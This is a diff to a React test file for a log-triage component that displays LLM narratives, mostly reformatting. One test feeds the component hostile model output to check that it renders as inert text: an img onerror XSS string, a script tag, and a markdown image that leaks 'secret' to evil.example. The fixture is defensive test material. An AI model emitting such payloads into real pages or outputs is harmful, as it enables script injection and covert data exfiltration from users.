@@ -50,7 +50,9 @@ describe('TriageResult with the vLLM simulator', () => {
     expect(screen.getByTestId(testIds.triage.facts).textContent).toContain('12 lines');
     const narrative = await screen.findByTestId(testIds.triage.narrative, {}, { timeout: 8000 });
     expect(narrative.textContent).toMatch(/12 error lines in the window/);
-    expect(screen.getByTestId(testIds.triage.provenance).textContent).toMatch(/Model Qwen\/Qwen2.5-7B-Instruct, \d+\.\d s, 12 lines, 1 of 1 templates, \d+ prompt tokens\./);
+    expect(screen.getByTestId(testIds.triage.provenance).textContent).toMatch(
+      /Model Qwen\/Qwen2.5-7B-Instruct, \d+\.\d s, 12 lines, 1 of 1 templates, \d+ prompt tokens\./
+    );
     fireEvent.click(screen.getByTestId(testIds.triage.showPrompt));
     const [body] = await sim.requests();
     const sent = (body.messages as Array<{ content: string }>).map((m) => m.content);
@@ -97,11 +99,24 @@ describe('TriageResult with the vLLM simulator', () => {
 describe('TriageResult rendering of hostile model output', () => {
   it('renders HTML, markdown images and links as inert text', async () => {
     const prepared = prepareTriage(lines, settings);
-    const evil = '<img src=x onerror=alert(1)><b>bold</b> ![x](http://evil.example/leak?d=secret) [click](http://evil.example)';
+    const evil =
+      '<img src=x onerror=alert(1)><b>bold</b> ![x](http://evil.example/leak?d=secret) [click](http://evil.example)';
     const narrate = async () => ({
       model: 'm',
       prompt: prepared.prompt,
-      result: { ok: true as const, narrative: { summary: evil, likely_cause: '<script>x()</script>', next_steps: ['<a href="http://evil.example">go</a>'] }, model: 'm', seconds: 1, structured: true, sent: [], notes: [] },
+      result: {
+        ok: true as const,
+        narrative: {
+          summary: evil,
+          likely_cause: '<script>x()</script>',
+          next_steps: ['<a href="http://evil.example">go</a>'],
+        },
+        model: 'm',
+        seconds: 1,
+        structured: true,
+        sent: [],
+        notes: [],
+      },
     });
     render(<TriageResult prepared={prepared} problems={[]} narrate={narrate} />);
     const n = await screen.findByTestId(testIds.triage.narrative);
